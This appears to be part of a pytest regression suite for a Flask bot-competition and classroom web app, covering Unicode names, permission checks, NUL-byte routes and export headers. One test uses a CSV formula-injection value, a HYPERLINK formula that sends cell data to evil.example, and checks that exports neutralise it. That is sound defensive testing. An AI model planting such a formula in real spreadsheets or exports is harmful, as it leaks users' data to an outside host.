    400 with the sentence on the form; /competitions/new stays the form."""
    create_account(store, "orla", PASSWORD, role="organiser", hasher=HASHER)
    client = logged_in(app, "orla")
    for changes, message in [
        ({"name": "new"}, "is a page of its own"),
        ({"move_ms": "9" * 400}, "Move seconds must be 0.01 to 10 s, not inf s."),
    ]:
        data = {"csrf_token": csrf_token(client, "/competitions/new"), "name": "webcup",
                "rules": "draw", "players": "2", "runtimes": "python", "deadline": _soon(),
                "time_zone": "UTC", **changes}  # fmt: skip
        sent = client.post("/competitions/new", data=data)
        assert sent.status_code == 400, changes
        assert message in _form_flash(sent.get_data(as_text=True)), changes
    assert 'name="deadline"' in client.get("/competitions/new").get_data(as_text=True)


def test_a_competition_name_is_answered_as_stored(app: Flask, store: Store) -> None:
    """A name sent in another Unicode form (full-width letters) is stored normalised
    ("full"): the API answered 404 after storing it; now 201 with the stored name, and
    the form goes to the stored name's page."""
    client = app.test_client()
    full_width = _competition_body(name="\uff46\uff55\uff4c\uff4c")  # "full"
    sent = client.post("/api/v1/competitions", json=full_width, headers=_organiser(store))
    assert sent.status_code == 201, sent.get_json()
    assert sent.get_json()["summary"]["name"] == "full"
    create_account(store, "orla", PASSWORD, role="organiser", hasher=HASHER)
    web = logged_in(app, "orla")
    data = {"csrf_token": csrf_token(web, "/competitions/new"), "name": "\uff57\uff45\uff42",
            "rules": "draw", "players": "2", "runtimes": "python", "deadline": _soon(),
            "time_zone": "UTC"}  # fmt: skip
    made = web.post("/competitions/new", data=data)
    assert made.status_code == 302, _form_flash(made.get_data(as_text=True))
    assert made.status_code == 302 and made.headers["Location"].endswith("/competitions/web")
    assert web.get("/competitions/web").status_code == 200


def test_a_stranger_moving_a_deadline_is_refused_before_the_form_is_read(
    app: Flask, store: Store
) -> None:
    """Another user's POST to a competition's deadline control is 403 whatever it sends
    (it was a 400 about the date: the form was read before the permission)."""
    client = app.test_client()
    made = client.post("/api/v1/competitions", json=_competition_body(), headers=_organiser(store))
    assert made.status_code == 201
    create_account(store, "mallory", PASSWORD, hasher=HASHER)
    web = logged_in(app, "mallory")
    for deadline in ("garbage", _soon()):
        data = {"csrf_token": csrf_token(web, "/competitions/cup"), "deadline": deadline}
        assert web.post("/competitions/cup/deadline", data=data).status_code == 403, deadline


def test_exports_of_a_competition_named_in_any_script_download(app: Flask, store: Store) -> None:
    """A competition's name may hold any script's letters ("日本"): its CSV exports put it
    in Content-Disposition as it was, which is not Latin-1, and the server (gunicorn)
    answered 500. Now the header is Latin-1 with the name as RFC 6266's filename*."""
    name = "\u65e5\u672c"
    client = app.test_client()
    made = client.post(
        "/api/v1/competitions", json=_competition_body(name=name), headers=_organiser(store)
    )
    assert made.status_code == 201
    for path in (f"/competitions/{name}/ladder.csv", f"/api/v1/competitions/{name}/final.csv"):
        got = client.get(path, headers=_organiser_again(store))
        assert got.status_code == 200, path
        header = got.headers["Content-Disposition"]
        header.encode("latin-1")  # what a WSGI server sends; it raised before
        assert "filename*=UTF-8''%E6%97%A5%E6%9C%AC-" in header, header


def test_a_bot_named_in_any_script_has_a_downloadable_source(app: Flask, store: Store) -> None:
    """A bot's name may hold any script's letters too: its source's Content-Disposition
    was the name as it was (a 500 from a WSGI server, as the competitions' exports)."""
    name = "\u65e5\u672c"
    create_account(store, "olga", PASSWORD, hasher=HASHER)
    source = "def play(observation):\n    return observation['legal'][0]\n"
    store.add_bot_version("olga", name, source, {})
    got = logged_in(app, "olga").get(f"/bots/olga/{name}/v1/source")
    assert got.status_code == 200
    header = got.headers["Content-Disposition"]
    header.encode("latin-1")  # what a WSGI server sends; it raised before
    assert "filename*=UTF-8''%E6%97%A5%E6%9C%AC-v1.py" in header, header


@pytest.mark.backends("sqlite", "postgresql")  # the integers' range
def test_competition_forms_with_ids_past_the_database_are_refused(app: Flask, store: Store) -> None:
    """The entry and disqualification forms' version ids past the databases' integers
    (each of :data:`IDS`, on one competition: the refusals store nothing) were a 500
    (SQLite: OverflowError) or a 503 (PostgreSQL: integer out of range); now the entry is a
    404 (no such version of yours) and the disqualification a 400."""
    client = app.test_client()
    made = client.post("/api/v1/competitions", json=_competition_body(), headers=_organiser(store))
    assert made.status_code == 201
    create_account(store, "alice", PASSWORD, hasher=HASHER)
    entrant, organiser = logged_in(app, "alice"), logged_in(app, "olga")
    entrant_token = csrf_token(entrant, "/competitions/cup")
    organiser_token = csrf_token(organiser, "/competitions/cup")
    for version in IDS:
        data = {"csrf_token": entrant_token, "version": version}
        entry = entrant.post("/competitions/cup/enter", data=data)
        assert entry.status_code == 404, f"entering version {version[:50]}"
        data = {"csrf_token": organiser_token, "version": version, "reason": "copied"}
        refused = organiser.post("/competitions/cup/disqualify", data=data)
        assert refused.status_code == 400, f"disqualifying version {version[:50]}"
        assert "is not an entry of cup to disqualify" in refused.get_data(as_text=True)


# --- classes (issue 22) ----------------------------------------------------------------------


def _class_with_teacher_student(store: Store) -> str:
    """Teachers tess (class maths) and toby, toby also a student of maths (joined by code);
    the join code of maths."""
    from arena.service.accounts import authenticate
    from arena.service.classes import NewClass, create_class, join_as

    for name in ("tess", "toby"):
        create_account(store, name, PASSWORD, role="teacher", hasher=HASHER)
    tess = authenticate(store, "tess", PASSWORD, hasher=HASHER)
    toby = authenticate(store, "toby", PASSWORD, hasher=HASHER)
    assert tess is not None and toby is not None
    row = create_class(store, tess, NewClass(name="maths"))
    assert row.join_code is not None
    join_as(store, toby, row.join_code)
    return row.join_code


def test_a_teacher_resetting_a_teachers_password_reads_why(app: Flask, store: Store) -> None:
    """A class's teacher resetting the password of a student who holds the teacher role
    (only admins may) was a server error on the page (the service's ClassError escaped);
    now the class page says why and the password is unchanged."""
    from arena.service.accounts import authenticate

    _class_with_teacher_student(store)
    tess = logged_in(app, "tess")
    data = {"csrf_token": csrf_token(tess, "/classes/maths")}
    refused = tess.post("/classes/maths/students/toby/password", data=data)
    assert refused.status_code == 303 and refused.headers["Location"].endswith("/classes/maths")
    page = tess.get("/classes/maths").get_data(as_text=True)
    assert "Toby is a teacher: only an admin may reset the password" in page
    assert authenticate(store, "toby", PASSWORD, hasher=HASHER) is not None


def test_a_roster_real_name_read_as_a_formula_is_quoted_in_the_logins_csv(
    app: Flask, store: Store, url: str
) -> None:
    """A roster's real name such as ``=HYPERLINK(...)`` came back as is in the printable
    logins' CSV (and ``arena class roster --import``'s), which a spreadsheet runs as a
    formula; now it is quoted with ``'`` as the grade and standings exports quote it."""
    import csv
    import html
    import io

    _class_with_teacher_student(store)
    tess = logged_in(app, "tess")
    roster = '"=HYPERLINK(""http://evil.example/?""&A1,""click"")"\n-2+3\nAda Lovelace\n'
    data = {"csrf_token": csrf_token(tess, "/classes/maths/roster"), "text": roster,
            "action": "import"}  # fmt: skip
    page = tess.post("/classes/maths/roster", data=data).get_data(as_text=True)
    found = re.search(r'name="csv" value="([^"]*)"', page)
    assert found, "no CSV on the logins page"
    rows = list(csv.reader(io.StringIO(html.unescape(found.group(1)))))
    assert [r[0] for r in rows] == [
        "real_name", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'-2+3", "Ada Lovelace"
    ]  # fmt: skip
    runner = CliRunner()
    made = runner.invoke(
        cli, ["class", "roster", "maths", "--import", "-", "--url", url], input="=1+1\n"
    )
    assert made.exit_code == 0, made.output
    assert made.output.splitlines()[1].startswith("'=1+1,"), made.output


def test_a_similarity_report_of_big_sources_is_refused_before_it_compares(
    app: Flask, store: Store
) -> None:
    """A class whose students' latest sources are big (a bot may be 256 KiB) held the
    similarity page for minutes (10 sources of 256 KB: 30 s here; the comparisons grow
    with the square of the class), one comparison at a time a process, every other
    teacher's report waiting; now a report past the bound is a 400 sentence at once, on
    the page and in the API (the operator's 'arena class similarity' is not bounded)."""
    from arena.service.classes import find_class, join_class
    from arena.service.similarity import MAX_COMPARED_CHARS

    _class_with_teacher_student(store)
    code = find_class(store, "maths").join_code
    assert code is not None
    size = 240_000
    for i in range(MAX_COMPARED_CHARS // size + 1):
        join_class(store, HASHER, code, f"kid{i}", PASSWORD)
        source = f"def play(o):\n    return o.legal_moves[{i}]\n" + "# padding\n" * (size // 10)
        store.add_bot_version(f"kid{i}", "big", source, {})
        submitted(store, "maths", f"kid{i}", "big")  # the report compares submissions
    page = logged_in(app, "tess").get("/classes/maths/similarity")
    assert page.status_code == 400
    assert "are more than a page compares" in page.get_data(as_text=True)
    with store.read() as session:
        tess_id = session.scalar(select(User.id).where(User.name == "tess"))
    assert tess_id is not None
    token = create_token(store, tess_id, "t", ["read"])
    api = app.test_client().get(
        "/api/v1/classes/maths/similarity", headers={"Authorization": f"Bearer {token}"}
    )
    answer = api.get_json()
    assert api.status_code == 400 and "more than a page compares" in answer["error"]["message"]


def test_a_roster_file_past_the_request_limit_is_told_about_rosters(
    app: Flask, store: Store
) -> None:
    """A 5 MB roster file was refused (413) with "a bot is one Python file of at most 256
    KiB", about another form; now the sentence names the roster file's limit."""
    import io

    from werkzeug.datastructures import FileStorage, MultiDict
    from werkzeug.test import encode_multipart

    _class_with_teacher_student(store)
    tess = logged_in(app, "tess")
    form = MultiDict({
        "csrf_token": csrf_token(tess, "/classes/maths/roster"),
        "roster": FileStorage(io.BytesIO(b"Ada Lovelace\n" * 400_000), "roster.csv"),
    })  # fmt: skip
    boundary, body = encode_multipart(form)  # in memory: the refused request reads none
    refused = tess.post(
        "/classes/maths/roster", data=body, content_type=f"multipart/form-data; boundary={boundary}"
    )
    assert refused.status_code == 413
    text = refused.get_data(as_text=True)
    assert "a roster file is at most 512 KiB" in text and "Python file" not in text


@pytest.mark.backends("sqlite", "postgresql")  # PostgreSQL's text refuses NUL
@pytest.mark.parametrize("path", ["/join/AB%00CD", "/api/v1/join/AB%00CD"])
def test_a_join_code_with_a_nul_is_no_class(app: Flask, store: Store, path: str) -> None:
    """A join code with a NUL (``/join/%00``) was "the database did not answer" (503) on
    PostgreSQL, whose text refuses NUL, and an error in its log; now no class has it."""
    _class_with_teacher_student(store)
    if path.startswith("/api/"):
        create_account(store, "vic", PASSWORD, hasher=HASHER)
        with store.read() as session:
            vic = session.scalar(select(User.id).where(User.name == "vic"))
        assert vic is not None
        token = create_token(store, vic, "t", ["upload"])
        answer = app.test_client().post(path, json={}, headers={"Authorization": f"Bearer {token}"})
        assert answer.status_code == 400, answer.get_data(as_text=True)
        assert "no class has the join code" in answer.get_json()["error"]["message"]
    else:
        answer = app.test_client().get(path)
        assert answer.status_code == 404
        assert "No class has the join code" in answer.get_data(as_text=True)


@pytest.mark.parametrize(
    ("method", "path", "fields", "status"),
    [
        ("GET", "/classes/ma%00ths", {}, 404),
        ("GET", "/api/v1/classes/ma%00ths/roster", {}, 404),
        ("POST", "/api/v1/classes/maths/teachers", {"user": "to\x00by"}, 400),
        ("POST", "/api/v1/role-requests/to%00by", {"grant": True}, 404),
    ],
)
@pytest.mark.backends("sqlite", "postgresql")  # PostgreSQL's text refuses NUL
def test_names_with_a_nul_in_class_routes_are_not_found(
    app: Flask, store: Store, method: str, path: str, fields: dict[str, Any], status: int
) -> None:
    """A class's name, a teacher's or a role request's user name with a NUL was "the
    database did not answer" (503, an error logged) on PostgreSQL; now it names nothing."""
    _class_with_teacher_student(store)
    create_account(store, "root", PASSWORD, role="admin", hasher=HASHER)
    if path.startswith("/api/"):
        who = "root" if "role-requests" in path else "tess"
        with store.read() as session:
            user_id = session.scalar(select(User.id).where(User.name == who))
        assert user_id is not None
        token = create_token(store, user_id, "t", ["read", "run"])
        headers = {"Authorization": f"Bearer {token}"}
        answer = app.test_client().open(path, method=method, json=fields, headers=headers)
    else:
        answer = logged_in(app, "tess").open(path, method=method)
    assert answer.status_code == status, answer.get_data(as_text=True)


def test_pages_that_show_first_time_passwords_are_kept_by_no_cache(
    app: Flask, store: Store
) -> None:
    """The roster's printable logins, a reset's password and the logins' CSV carried no
    Cache-Control: a shared school computer's browser could keep them on disk; now they
    say no-store."""
    from arena.service.classes import find_class, join_class

    _class_with_teacher_student(store)
    code = find_class(store, "maths").join_code
    assert code is not None
    join_class(store, HASHER, code, "kid", PASSWORD)
    tess = logged_in(app, "tess")
    token = csrf_token(tess, "/classes/maths/roster")
    answers = [
        tess.post("/classes/maths/roster", data={"csrf_token": token, "text": "Ada Lovelace"}),
        tess.post("/classes/maths/students/kid/password", data={"csrf_token": token}),
        tess.post("/classes/maths/logins.csv", data={"csrf_token": token, "csv": "a,b,c\n"}),
    ]
    assert [a.status_code for a in answers] == [200, 200, 200]
    assert [a.headers.get("Cache-Control") for a in answers] == ["no-store"] * 3
